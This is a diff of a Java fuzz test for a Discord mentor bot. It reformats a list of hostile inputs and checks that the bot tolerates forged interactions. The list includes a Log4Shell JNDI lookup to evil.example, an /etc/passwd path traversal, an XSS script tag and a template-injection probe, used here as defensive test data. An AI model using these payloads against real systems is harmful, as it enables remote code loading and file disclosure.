@@ -91,16 +91,62 @@ class DiscordCorpusTest {
 
     /** Option values, custom ids and strings a person (or a forged client) could send. */
     static final List<String> HOSTILE = List.of(
-            "", " ", "\t", "\u0000", "\u0007\u001B[31mred", "\r\n\r\n", "a\nb\nc",
-            "@everyone", "@here", "@everyone serving", "<@123456789012345678>", "<@!123456789012345678>",
-            "<@&456456456456456456>", "<#789789789789789789>", "<@123> <@&456> <#789> @here @everyone",
-            "**serving**", "__*~~`serving`~~*__", "||spoiler||", "[click me](https://evil.example/)", "# heading",
-            "-# small print", "> quote", "```code```", "\\", "\\*", "\"", "'",
-            "\u202Eserving\u202C", "\u200Bserv\u200Ding\u200C", "\uFEFFserving", "\u2066isolate\u2069", "serv\u0301ing",
-            "SERVİNG", "ſerving", "ｓｅｒｖｉｎｇ", "مرحبا", "שלום", "こんにちは", "🙂".repeat(60), "\uD800", "\uDFFF",
-            "x".repeat(10_000), "serving ".repeat(1250), "@everyone ".repeat(1000),
-            "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "%s%n%s", "{{7*7}}", "<script>alert(1)</script>",
-            "null", "-1", "0", "9".repeat(40), "NaN", "cm1:s:salary serving", "/mentor salary");
+            "",
+            " ",
+            "\t",
+            "\u0000",
+            "\u0007\u001B[31mred",
+            "\r\n\r\n",
+            "a\nb\nc",
+            "@everyone",
+            "@here",
+            "@everyone serving",
+            "<@123456789012345678>",
+            "<@!123456789012345678>",
+            "<@&456456456456456456>",
+            "<#789789789789789789>",
+            "<@123> <@&456> <#789> @here @everyone",
+            "**serving**",
+            "__*~~`serving`~~*__",
+            "||spoiler||",
+            "[click me](https://evil.example/)",
+            "# heading",
+            "-# small print",
+            "> quote",
+            "```code```",
+            "\\",
+            "\\*",
+            "\"",
+            "'",
+            "\u202Eserving\u202C",
+            "\u200Bserv\u200Ding\u200C",
+            "\uFEFFserving",
+            "\u2066isolate\u2069",
+            "serv\u0301ing",
+            "SERVİNG",
+            "ſerving",
+            "ｓｅｒｖｉｎｇ",
+            "مرحبا",
+            "שלום",
+            "こんにちは",
+            "🙂".repeat(60),
+            "\uD800",
+            "\uDFFF",
+            "x".repeat(10_000),
+            "serving ".repeat(1250),
+            "@everyone ".repeat(1000),
+            "${jndi:ldap://evil.example/a}",
+            "../../../etc/passwd",
+            "%s%n%s",
+            "{{7*7}}",
+            "<script>alert(1)</script>",
+            "null",
+            "-1",
+            "0",
+            "9".repeat(40),
+            "NaN",
+            "cm1:s:salary serving",
+            "/mentor salary");
 
     @TempDir
     static Path tmp;
@@ -116,6 +162,7 @@ class DiscordCorpusTest {
     private static final Map<String, AtomicInteger> other = new ConcurrentHashMap<>();
     /** Every case by the id Discord knows it by; sentinels and set-up traffic are not cases. */
     private static final Map<String, Interaction> sent = new LinkedHashMap<>();
+
     private static final Set<String> tokens = new HashSet<>();
     private static final Set<String> helpers = ConcurrentHashMap.newKeySet();
     private static int cases;
@@ -133,7 +180,8 @@ class DiscordCorpusTest {
     static void start() throws Exception {
         Path knowledge = Files.createDirectories(tmp.resolve("knowledge"));
         try (Stream<Path> files = Files.list(Fixtures.knowledgeDir())) {
-            for (Path f : files.filter(Files::isRegularFile).toList()) Files.copy(f, knowledge.resolve(f.getFileName()));
+            for (Path f : files.filter(Files::isRegularFile).toList())
+                Files.copy(f, knowledge.resolve(f.getFileName()));
         }
         app = MentorApp.builder(Fixtures.real())
                 .metrics(new PrometheusMeterRegistry(PrometheusConfig.DEFAULT))
@@ -144,9 +192,11 @@ class DiscordCorpusTest {
         discord = h.discord;
         h.adapter.jda().addEventListener((EventListener) event -> {
             if (!(event instanceof GenericInteractionCreateEvent e)) return;
-            boolean ours = e instanceof SlashCommandInteractionEvent || e instanceof ButtonInteractionEvent
+            boolean ours = e instanceof SlashCommandInteractionEvent
+                    || e instanceof ButtonInteractionEvent
                     || e instanceof CommandAutoCompleteInteractionEvent;
-            (ours ? answerable : other).computeIfAbsent(e.getInteraction().getId(), k -> new AtomicInteger())
+            (ours ? answerable : other)
+                    .computeIfAbsent(e.getInteraction().getId(), k -> new AtomicInteger())
                     .incrementAndGet();
         });
         // JDA logs every payload it cannot parse as an error with a stack trace; count them instead.
@@ -180,15 +230,30 @@ class DiscordCorpusTest {
     @Test
     @Order(1)
     void everyFieldOfASlashCommandRemovedOrOfTheWrongType() throws Exception {
-        mutateEveryField("slash", () -> discord.prepareCommand(user(), discord.guildId, "salary",
-                Map.of("name", "serving", "level", "senior"), null), p -> true);
-        mutateEveryField("slash in a DM", () -> discord.prepareCommand(user(), null, "compare",
-                Map.of("first", "applied", "second", "serving"), null), p -> true);
-        mutateEveryField("slash on a server the bot is not in", () -> discord.prepareCommand(user(),
-                discord.otherGuildId, "specialization", Map.of("name", "mlops"), null),
+        mutateEveryField(
+                "slash",
+                () -> discord.prepareCommand(
+                        user(), discord.guildId, "salary", Map.of("name", "serving", "level", "senior"), null),
+                p -> true);
+        mutateEveryField(
+                "slash in a DM",
+                () -> discord.prepareCommand(
+                        user(), null, "compare", Map.of("first", "applied", "second", "serving"), null),
+                p -> true);
+        mutateEveryField(
+                "slash on a server the bot is not in",
+                () -> discord.prepareCommand(
+                        user(), discord.otherGuildId, "specialization", Map.of("name", "mlops"), null),
                 p -> p.startsWith("/data") || p.startsWith("/guild") || p.startsWith("/member/user"));
-        mutateEveryField("mentor-admin", () -> discord.prepareSlashAs(user(), "mentor-admin", "history",
-                Map.of("n", "3"), FakeDiscord.MANAGE_SERVER, List.of(discord.moderatorRoleId)),
+        mutateEveryField(
+                "mentor-admin",
+                () -> discord.prepareSlashAs(
+                        user(),
+                        "mentor-admin",
+                        "history",
+                        Map.of("n", "3"),
+                        FakeDiscord.MANAGE_SERVER,
+                        List.of(discord.moderatorRoleId)),
                 p -> p.startsWith("/data") || p.startsWith("/member"));
         flush();
     }
@@ -222,16 +287,16 @@ class DiscordCorpusTest {
             for (Param p : c.params()) valid.put(p.name(), "3");
             // Read-only for a moderator; everything (reload included) is refused to a plain member.
             if (!c.name().equals("reload")) {
-                send(discord.prepareSlashAs(user(), "mentor-admin", c.name(), valid, FakeDiscord.MANAGE_SERVER,
-                        List.of()));
+                send(discord.prepareSlashAs(
+                        user(), "mentor-admin", c.name(), valid, FakeDiscord.MANAGE_SERVER, List.of()));
             }
             send(discord.prepareSlashAs(user(), "mentor-admin", c.name(), valid, 0, List.of()));
             for (Param p : c.params()) {
                 for (String bad : HOSTILE) {
                     Map<String, String> options = new LinkedHashMap<>(valid);
                     options.put(p.name(), bad);
-                    send(discord.prepareSlashAs(user(), "mentor-admin", c.name(), options, 0,
-                            List.of(discord.moderatorRoleId)));
+                    send(discord.prepareSlashAs(
+                            user(), "mentor-admin", c.name(), options, 0, List.of(discord.moderatorRoleId)));
                 }
             }
         }
@@ -241,8 +306,17 @@ class DiscordCorpusTest {
     @Test
     @Order(3)
     void unknownCommandsSubcommandsAndOptions() throws Exception {
-        for (String sub : List.of("nope", "SALARY", "salary ", "", "x".repeat(200), "../admin", "reload", "mentor",
-                "@everyone", "\u202Ehelp")) {
+        for (String sub : List.of(
+                "nope",
+                "SALARY",
+                "salary ",
+                "",
+                "x".repeat(200),
+                "../admin",
+                "reload",
+                "mentor",
+                "@everyone",
+                "\u202Ehelp")) {
             send(discord.prepareCommand(user(), discord.guildId, sub, Map.of("name", "serving"), null));
         }
         for (String name : List.of("mentor-admin", "other", "", "MENTOR", "x".repeat(5000), "@here")) {
@@ -251,17 +325,21 @@ class DiscordCorpusTest {
             send(i);
         }
         for (String option : List.of("nope", "NAME", "", "x".repeat(10_000), "<@123>", "level")) {
-            send(discord.prepareCommand(user(), discord.guildId, "specialization",
-                    Map.of(option, "serving"), null));
-            send(discord.prepareCommand(user(), discord.guildId, "specialization",
-                    Map.of("name", "serving", option.isEmpty() ? "z" : option, "senior"), null));
+            send(discord.prepareCommand(user(), discord.guildId, "specialization", Map.of(option, "serving"), null));
+            send(discord.prepareCommand(
+                    user(),
+                    discord.guildId,
+                    "specialization",
+                    Map.of("name", "serving", option.isEmpty() ? "z" : option, "senior"),
+                    null));
         }
         // No subcommand at all, two subcommands, a subcommand group, a subcommand without options.
         Interaction none = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
         ((ObjectNode) none.payload().path("data")).set("options", JSON.createArrayNode());
         send(none);
         Interaction two = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
-        ((ArrayNode) two.payload().at("/data/options")).add(two.payload().at("/data/options/0").deepCopy());
+        ((ArrayNode) two.payload().at("/data/options"))
+                .add(two.payload().at("/data/options/0").deepCopy());
         send(two);
         Interaction group = discord.prepareCommand(user(), discord.guildId, "salary", Map.of("name", "serving"), null);
         ObjectNode sub = (ObjectNode) group.payload().at("/data/options/0");
@@ -289,8 +367,10 @@ class DiscordCorpusTest {
     @Test
     @Order(4)
     void autocompleteWithHostileInput() throws Exception {
-        mutateEveryField("autocomplete", () -> discord.prepareCommand(user(), discord.guildId, "compare",
-                Map.of("first", "applied", "second", "serv"), "second"),
+        mutateEveryField(
+                "autocomplete",
+                () -> discord.prepareCommand(
+                        user(), discord.guildId, "compare", Map.of("first", "applied", "second", "serv"), "second"),
                 p -> p.startsWith("/data") || p.equals("/type") || p.startsWith("/member/user"));
         for (Command c : app.mentor().commands()) {
             for (Param p : c.params()) {
@@ -302,13 +382,13 @@ class DiscordCorpusTest {
         }
         // The focused option given as another option type: Discord would only do this for a stale client.
         for (int type : new int[] {4, 5, 10, 99}) {
-            Interaction i = discord.prepareCommand(user(), discord.guildId, "specialization", Map.of("name", "se"),
-                    "name");
+            Interaction i =
+                    discord.prepareCommand(user(), discord.guildId, "specialization", Map.of("name", "se"), "name");
             ((ObjectNode) i.payload().at("/data/options/0/options/0")).put("type", type);
             send(i);
         }
-        Interaction twoFocused = discord.prepareCommand(user(), discord.guildId, "compare",
-                Map.of("first", "app", "second", "ser"), "first");
+        Interaction twoFocused = discord.prepareCommand(
+                user(), discord.guildId, "compare", Map.of("first", "app", "second", "ser"), "first");
         for (JsonNode o : twoFocused.payload().at("/data/options/0/options")) ((ObjectNode) o).put("focused", true);
         send(twoFocused);
         flush();
@@ -317,19 +397,23 @@ class DiscordCorpusTest {
     @Test
     @Order(5)
     void buttonsWithEveryFieldSpoiled() throws Exception {
-        mutateEveryField("quiz click", () -> {
-            Quiz q = ownedQuiz();
-            return discord.prepareClick(q.owner, q.message, q.choice);
-        },
-                p -> !p.startsWith("/message/embeds") && !p.startsWith("/message/author")
+        mutateEveryField(
+                "quiz click",
+                () -> {
+                    Quiz q = ownedQuiz();
+                    return discord.prepareClick(q.owner, q.message, q.choice);
+                },
+                p -> !p.startsWith("/message/embeds")
+                        && !p.startsWith("/message/author")
                         && !p.matches("/message/components/\\d+/components/[1-9].*")
-                        && !p.startsWith("/guild/features") && !p.startsWith("/channel/permission_overwrites")
+                        && !p.startsWith("/guild/features")
+                        && !p.startsWith("/channel/permission_overwrites")
                         && !p.matches("/member/(roles|avatar|premium_since|deaf|mute|pending|flags|joined_at)"));
         Answer a = answer("salary", Map.of("name", "mlops"));
         for (String label : List.of("Share to channel", "Outdated?")) {
             String id = Harness.button(discord.rest().message(a.message), label);
-            mutateEveryField(label + " click", () -> discord.prepareClick(user(), a.message, id),
-                    p -> p.startsWith("/data"));
+            mutateEveryField(
+                    label + " click", () -> discord.prepareClick(user(), a.message, id), p -> p.startsWith("/data"));
         }
         flush();
     }
@@ -372,8 +456,25 @@ class DiscordCorpusTest {
             parts = q.choice.split(":", -1);
         }
         for (int part = 1; part < parts.length; part++) {
-            for (String bad : List.of("", "x", "AAAAAAAA", "Zz9_-Zz9_-Zz9_-Zz", "999999999", "0123456789", "a9", "a",
-                    "b", "c", "r", "s", "@everyone", "<@123>", "../", "\u202E", "\u0000", ":")) {
+            for (String bad : List.of(
+                    "",
+                    "x",
+                    "AAAAAAAA",
+                    "Zz9_-Zz9_-Zz9_-Zz",
+                    "999999999",
+                    "0123456789",
+                    "a9",
+                    "a",
+                    "b",
+                    "c",
+                    "r",
+                    "s",
+                    "@everyone",
+                    "<@123>",
+                    "../",
+                    "\u202E",
+                    "\u0000",
+                    ":")) {
                 String[] forged = q.choice.split(":", -1);
                 forged[part] = bad;
                 clickOn(q, q.message, String.join(":", forged));
@@ -385,9 +486,19 @@ class DiscordCorpusTest {
                 clickOn(null, salary.message, "cm1:" + kind + ":" + bad);
             }
         }
-        for (String bad : List.of("cm1:r:become all", "cm1:r:quiz", "cm1:r:ask @everyone", "cm1:s:become all",
-                "cm1:s:salary", "cm1:s:quiz", "cm1:r:mentor-admin reload", "cm1:r:reload", "cm1:o:nope:2026",
-                "cm1:o:six-specializations:1999", "cm1:o:" + "a:2026,".repeat(12) + "a:2026", "cm1:o:a:2026-13-45")) {
+        for (String bad : List.of(
+                "cm1:r:become all",
+                "cm1:r:quiz",
+                "cm1:r:ask @everyone",
+                "cm1:s:become all",
+                "cm1:s:salary",
+                "cm1:s:quiz",
+                "cm1:r:mentor-admin reload",
+                "cm1:r:reload",
+                "cm1:o:nope:2026",
+                "cm1:o:six-specializations:1999",
+                "cm1:o:" + "a:2026,".repeat(12) + "a:2026",
+                "cm1:o:a:2026-13-45")) {
             clickOn(null, salary.message, bad);
         }
         for (String bad : HOSTILE) clickOn(null, salary.message, bad);
@@ -412,11 +523,16 @@ class DiscordCorpusTest {
     @Order(7)
     void staleAndDuplicateInteractions() throws Exception {
         long now = System.currentTimeMillis();
-        long[] ages = {5_000, 60_000, Duration.ofMinutes(16).toMillis(), Duration.ofDays(400).toMillis()};
+        long[] ages = {
+            5_000,
+            60_000,
+            Duration.ofMinutes(16).toMillis(),
+            Duration.ofDays(400).toMillis()
+        };
         for (long age : ages) {
             for (String sub : List.of("help", "become", "quiz")) {
-                Interaction fresh = discord.prepareCommand(user(), discord.guildId, sub,
-                        sub.equals("become") ? Map.of("part", "all") : Map.of(), null);
+                Interaction fresh = discord.prepareCommand(
+                        user(), discord.guildId, sub, sub.equals("become") ? Map.of("part", "all") : Map.of(), null);
                 String old = oldSnowflake(now - age);
                 ((ObjectNode) fresh.payload()).put("id", old);
                 send(new Interaction(old, fresh.token(), fresh.payload()));
@@ -461,8 +577,8 @@ class DiscordCorpusTest {
         // Several spoiled fields at once, chosen by the fixed seed.
         Quiz q = quiz();
         List<Supplier<Interaction>> bases = List.of(
-                () -> discord.prepareCommand(user(), discord.guildId, "switch", Map.of("from", "backend", "to", "serving"),
-                        null),
+                () -> discord.prepareCommand(
+                        user(), discord.guildId, "switch", Map.of("from", "backend", "to", "serving"), null),
                 () -> discord.prepareCommand(user(), null, "ask", Map.of("question", "how do I start"), null),
                 () -> discord.prepareCommand(user(), discord.guildId, "path", Map.of("name", "res"), "name"),
                 () -> discord.prepareClick(user(), q.message, q.choice));
@@ -489,7 +605,9 @@ class DiscordCorpusTest {
         JDA jda = h.adapter.jda();
         assertEquals(JDA.Status.CONNECTED, jda.getStatus(), "JDA is still connected");
         assertTrue(h.adapter.ready(), "the adapter still reports ready");
-        assertEquals(1, discord.gateway().received().stream().filter("IDENTIFY"::equals).count(),
+        assertEquals(
+                1,
+                discord.gateway().received().stream().filter("IDENTIFY"::equals).count(),
                 "one gateway session throughout: nothing made JDA reconnect");
         assertFalse(discord.gateway().received().contains("RESUME"), "no resume either");
 
@@ -498,14 +616,17 @@ class DiscordCorpusTest {
         Exchange answer = discord.callback(salary);
         assertEquals(200, answer.status(), answer.toString());
         assertEquals(4, answer.body().path("type").asInt());
-        assertEquals("Inference / serving engineer: pay", embed(answer).path("title").asText());
+        assertEquals(
+                "Inference / serving engineer: pay", embed(answer).path("title").asText());
         assertTrue(texts(embed(answer)).contains("$300K–$600K"), texts(embed(answer)));
         Quiz q = quiz();
         Interaction click = discord.click(q.owner, q.message, q.choice);
         helpers.add(click.id());
         Exchange step = discord.callback(click);
         assertEquals(7, step.body().path("type").asInt(), "the quiz still advances in place");
-        assertTrue(embed(step).path("title").asText().endsWith("question 2 of 5"), embed(step).toString());
+        assertTrue(
+                embed(step).path("title").asText().endsWith("question 2 of 5"),
+                embed(step).toString());
 
         // Every case JDA handed to the bot was acknowledged exactly once, and nothing else was.
         // Wait for the last acknowledgements; what is still missing then is listed below.
@@ -534,20 +655,24 @@ class DiscordCorpusTest {
         for (Exchange e : discord.rest().exchanges()) {
             JsonNode m = e.message();
             if (m == null || !m.has("embeds")) continue;
-            boolean publicPost = (e.path().startsWith("/interactions/") && e.body().path("type").asInt() == 4
-                    || e.method().equals("POST") && e.path().startsWith("/webhooks/"))
+            boolean publicPost = (e.path().startsWith("/interactions/")
+                                    && e.body().path("type").asInt() == 4
+                            || e.method().equals("POST") && e.path().startsWith("/webhooks/"))
                     && (m.path("flags").asInt(0) & 64) == 0;
             if (publicPost) {
                 Matcher cb = CALLBACK.matcher(e.path());
                 Interaction i = cb.matches() ? sent.get(cb.group(1)) : null;
-                String customId = i == null ? "" : i.payload().at("/data/custom_id").asText("");
+                String customId =
+                        i == null ? "" : i.payload().at("/data/custom_id").asText("");
                 if (i != null && !customId.matches("cm1:(s:.*|q:.*:s)")) {
                     problems.add("a public post that is not a Share: " + e);
                 }
             }
             for (JsonNode embed : m.path("embeds")) {
                 String shown = texts(embed);
-                if (shown.contains("@everyone") || shown.contains("@here") || shown.contains("<@")
+                if (shown.contains("@everyone")
+                        || shown.contains("@here")
+                        || shown.contains("<@")
                         || shown.contains("<#")) {
                     problems.add("mention syntax shown as is: " + abbreviated(e.toString()));
                 }
@@ -558,8 +683,10 @@ class DiscordCorpusTest {
         String tally = cases + " cases (" + skipped + " skipped as contradictory), " + answerable.size()
                 + " taken by the bot, " + other.size() + " other interaction types, " + jdaEvents.count.get()
                 + " JDA log events (mostly unreadable payloads), " + ourEvents.warnings.get() + " warnings logged";
-        assertTrue(problems.isEmpty(), tally + "; " + problems.size() + " problems:\n" + String.join("\n",
-                problems.subList(0, Math.min(60, problems.size()))));
+        assertTrue(
+                problems.isEmpty(),
+                tally + "; " + problems.size() + " problems:\n"
+                        + String.join("\n", problems.subList(0, Math.min(60, problems.size()))));
         h.assertCleanTraffic();
         assertTrue(cases >= 1000, "at least 1,000 cases: " + cases);
     }
@@ -584,9 +711,16 @@ class DiscordCorpusTest {
         if (valid.isEmpty()) return;
         String first = valid.keySet().iterator().next();
         List<java.util.function.Consumer<ObjectNode>> shapes = List.of(
-                o -> o.remove("value"), o -> o.remove("name"), o -> o.remove("type"), o -> o.put("type", 4),
-                o -> o.put("type", 5), o -> o.put("type", 6), o -> o.put("type", 99), o -> o.put("focused", true),
-                o -> o.put("name", 42), o -> o.set("type", JSON.createArrayNode()));
+                o -> o.remove("value"),
+                o -> o.remove("name"),
+                o -> o.remove("type"),
+                o -> o.put("type", 4),
+                o -> o.put("type", 5),
+                o -> o.put("type", 6),
+                o -> o.put("type", 99),
+                o -> o.put("focused", true),
+                o -> o.put("name", 42),
+                o -> o.set("type", JSON.createArrayNode()));
         for (var shape : shapes) {
             Interaction i = discord.prepareCommand(user(), discord.guildId, sub, valid, null);
             for (JsonNode o : i.payload().at("/data/options/0/options")) {
@@ -595,13 +729,20 @@ class DiscordCorpusTest {
             send(i);
         }
         Interaction notObject = discord.prepareCommand(user(), discord.guildId, sub, valid, null);
-        ((ArrayNode) notObject.payload().at("/data/options/0/options")).add("serving").add(42).addNull();
+        ((ArrayNode) notObject.payload().at("/data/options/0/options"))
+                .add("serving")
+                .add(42)
+                .addNull();
         send(notObject);
     }
 
     private static List<Function<JsonNode, JsonNode>> wrongValues() {
-        return List.of(o -> IntNode.valueOf(42), o -> DoubleNode.valueOf(-1.5e300), o -> BooleanNode.TRUE,
-                o -> NullNode.instance, o -> JSON.createArrayNode().add("serving"),
+        return List.of(
+                o -> IntNode.valueOf(42),
+                o -> DoubleNode.valueOf(-1.5e300),
+                o -> BooleanNode.TRUE,
+                o -> NullNode.instance,
+                o -> JSON.createArrayNode().add("serving"),
                 o -> JSON.createObjectNode().put("value", "serving"));
     }
 
@@ -624,8 +765,11 @@ class DiscordCorpusTest {
                 new Op("removed", v -> null),
                 new Op("null", v -> NullNode.instance),
                 // A snowflake as a number means the same id; anything else becomes a small number.
-                new Op("number", v -> v.isTextual() && v.asText().matches("\\d{15,19}")
-                        ? LongNode.valueOf(Long.parseLong(v.asText())) : IntNode.valueOf(42)),
+                new Op(
+                        "number",
+                        v -> v.isTextual() && v.asText().matches("\\d{15,19}")
+                                ? LongNode.valueOf(Long.parseLong(v.asText()))
+                                : IntNode.valueOf(42)),
                 new Op("huge number", v -> DoubleNode.valueOf(-1.5e300)),
                 new Op("empty string", v -> TextNode.valueOf("")),
                 new Op("10k string", v -> TextNode.valueOf("x".repeat(10_000))),
@@ -690,13 +834,16 @@ class DiscordCorpusTest {
             }
         }
         String id = jdaId(i.payload().get("id"));
-        String t = token == null || token.isNull() ? null : token.isNumber() ? token.numberValue().toString()
-                : token.asText();
+        String t = token == null || token.isNull()
+                ? null
+                : token.isNumber() ? token.numberValue().toString() : token.asText();
         return id == null || t == null ? i : new Interaction(id, t, i.payload());
     }
 
     private static boolean jdaReadable(JsonNode token) {
-        return token.isNumber() || token.isBoolean() || token.isTextual() && token.asText().matches("[A-Za-z0-9._-]+");
+        return token.isNumber()
+                || token.isBoolean()
+                || token.isTextual() && token.asText().matches("[A-Za-z0-9._-]+");
     }
 
     private static String jdaId(JsonNode n) {
@@ -781,9 +928,10 @@ class DiscordCorpusTest {
         assertEquals(200, e.status(), e.toString());
         String message = discord.rest().original(i);
         List<String> ids = Harness.customIds(discord.rest().message(message));
-        String choice = ids.stream().filter(id -> id.endsWith(":a0")).findFirst().orElseThrow();
-        return new Quiz(owner, message, choice, Harness.button(discord.rest().message(message), "Cancel"),
-                new AtomicInteger());
+        String choice =
+                ids.stream().filter(id -> id.endsWith(":a0")).findFirst().orElseThrow();
+        return new Quiz(
+                owner, message, choice, Harness.button(discord.rest().message(message), "Cancel"), new AtomicInteger());
     }
 
     private record Answer(String message) {}
@@ -806,7 +954,8 @@ class DiscordCorpusTest {
         Map<String, List<Exchange>> out = new HashMap<>();
         for (Exchange e : discord.rest().exchanges()) {
             Matcher m = CALLBACK.matcher(e.path());
-            if (e.method().equals("POST") && m.matches()) out.computeIfAbsent(m.group(1), k -> new ArrayList<>()).add(e);
+            if (e.method().equals("POST") && m.matches())
+                out.computeIfAbsent(m.group(1), k -> new ArrayList<>()).add(e);
         }
         return out;
     }
